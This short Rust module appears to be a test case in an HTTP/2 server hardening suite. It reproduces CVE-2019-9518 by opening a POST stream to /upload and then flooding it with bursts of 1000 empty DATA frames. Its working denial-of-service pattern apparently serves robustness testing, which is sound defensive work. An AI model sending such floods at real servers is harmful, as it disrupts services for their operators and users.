//! CVE-2019-9518: a body of frames with nothing in them.

use super::{Attack, HOST};
use crate::support::h2::{frame, hpack};

const FRAMES: usize = 1000;

pub(super) fn attack() -> Attack {
    let mut opening = frame::opening(&[]);
    frame::push(&mut opening, frame::HEADERS, frame::END_HEADERS, 1, &hpack::post("/upload", HOST, 1_000_000));
    Attack::flood("empty DATA flood", opening, burst)
}

fn burst(_: u32) -> Vec<u8> {
    let mut one = Vec::new();
    frame::push(&mut one, frame::DATA, 0, 1, &[]);
    one.repeat(FRAMES)
}
